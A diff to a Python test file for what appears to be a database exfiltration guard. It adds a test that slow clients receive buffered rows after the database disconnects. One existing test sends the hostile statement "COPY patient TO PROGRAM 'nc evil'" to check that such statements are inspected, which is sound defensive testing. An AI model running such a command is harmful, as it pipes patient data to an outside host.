@@ -1,4 +1,5 @@
-"""Clients on their way in: what they send too early is looked at, and what was opened for them is closed whatever they do."""
+"""Clients on their way in and out: what they send too early is looked at, what was opened for them is closed whatever they do, and
+what the database had sent them is still theirs when it has gone."""
 
 from __future__ import annotations
 
@@ -14,7 +15,7 @@ import uvloop
 
 from exfilguard.config.schema import Config, KafkaConfig, ListenerConfig
 from exfilguard.embedded.child import free_port
-from exfilguard.sidecar import relay
+from exfilguard.sidecar import relay, sides
 from exfilguard.sidecar._pump import PumpLoop
 from exfilguard.sidecar.worker import Guard, Worker
 from tests.config.test_certificates import made
@@ -84,7 +85,7 @@ def test_a_statement_behind_the_startup_message_is_looked_at(tmp_path: Path, loo
             heard.extend(data)
 
     async def play(guard: Guard) -> None:
-        reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
+        _reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
         writer.write(STARTUP + message(b"Q", b"COPY patient TO PROGRAM 'nc evil'\0"))
         await until(lambda: b"Q" in heard[len(STARTUP) :])
         assert heard.startswith(STARTUP)
@@ -133,3 +134,43 @@ def test_a_database_that_does_not_answer_about_tls_is_left(
         await left.wait()
 
     before(hung, tmp_path, play, loop, upstream_tls="require")
+
+
+@LOOPS
+def test_a_slow_client_gets_its_rows_after_the_database_has_gone(
+    tmp_path: Path, loop: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What the relay still has of them is not thrown away while the client makes a pause."""
+    monkeypatch.setattr(sides, "LINGER_S", 0.2)
+    row = message(b"D", struct.pack("!HI", 1, 1000) + bytes(1000))
+    result = message(b"T", struct.pack("!H", 1) + b"a\0" + struct.pack("!IhIhih", 0, 0, 25, -1, -1, 0)) + row * 250
+
+    async def leaving(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        await reader.read(4096)
+        writer.write(READY)
+        await reader.readexactly(10)
+        writer.write(result)
+        await writer.drain()
+        writer.close()
+
+    async def play(guard: Guard) -> None:
+        running = asyncio.get_running_loop()
+        link = socket.socket()
+        link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32 << 10)
+        link.setblocking(False)
+        await running.sock_connect(link, ("127.0.0.1", port_of(guard)))
+        await running.sock_sendall(link, STARTUP)
+        assert await running.sock_recv(link, 4096) == READY
+        (session,) = guard.all_sessions()
+        session.client.transport.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 32 << 10)  # type: ignore[union-attr]
+        await running.sock_sendall(link, message(b"Q", b"tout\0"))
+        await until(lambda: guard.lingering == 1)
+        await asyncio.sleep(0.5)
+        got = 0
+        while data := await running.sock_recv(link, 1 << 20):
+            got += len(data)
+        link.close()
+        assert got == len(result)
+        await until(lambda: guard.clients == guard.lingering == 0)
+
+    before(leaving, tmp_path, play, loop)
